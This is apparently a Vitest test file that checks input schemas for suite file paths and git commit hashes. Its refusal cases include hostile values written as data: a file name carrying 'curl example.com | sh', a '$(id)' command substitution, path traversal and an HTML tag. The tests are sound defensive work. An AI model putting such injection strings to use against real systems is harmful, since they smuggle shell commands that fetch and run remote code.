// The published-content fields the site pastes into text a reader may run or trust: a suite file
// path (the reproduce command) and git commit hashes. Anything outside their narrow forms is refused.
import { describe, expect, it } from "vitest";
import { GitCommitSchema, SuiteFileSchema } from "../../../src/pipeline/artifacts/schemas.ts";

describe("SuiteFileSchema", () => {
  it.each(["suites/smoke.yaml", "test/fixtures/suites/tiny.yaml", "my_suite.v2.yml", "_draft.yaml"])("accepts %s", (file) => {
    expect(SuiteFileSchema.safeParse(file).success).toBe(true);
  });

  it.each([
    ["../outside.yaml", "a parent folder"],
    ["suites/../../x.yaml", "a parent folder in the middle"],
    ["/etc/refit.yaml", "an absolute path"],
    ["-rf.yaml", "an option-like name"],
    ["suites/.hidden.yaml", "a hidden file"],
    ["my suite.yaml", "a space"],
    ["x.yaml; curl example.com | sh #.yaml", "shell text"],
    ["$(id).yaml", "a command substitution"],
    ["suites\\smoke.yaml", "a backslash"],
    ["suites/smoke.json", "another extension"],
    ["", "nothing"],
  ])("refuses %s (%s)", (file) => {
    expect(SuiteFileSchema.safeParse(file).success).toBe(false);
  });
});

describe("GitCommitSchema", () => {
  it("accepts a SHA-1 or SHA-256 commit hash, or null", () => {
    for (const c of ["d47b52c5b755f1bcfd842cb316e707a8cc481574", "a".repeat(64), null]) expect(GitCommitSchema.safeParse(c).success).toBe(true);
  });

  it("refuses short, uppercase, over-long or non-hex text", () => {
    for (const c of ["d47b52c", "D47B52C5B755F1BCFD842CB316E707A8CC481574", "a".repeat(41), "a".repeat(65), "<b>" + "a".repeat(37)]) {
      expect(GitCommitSchema.safeParse(c).success, c).toBe(false);
    }
  });
});
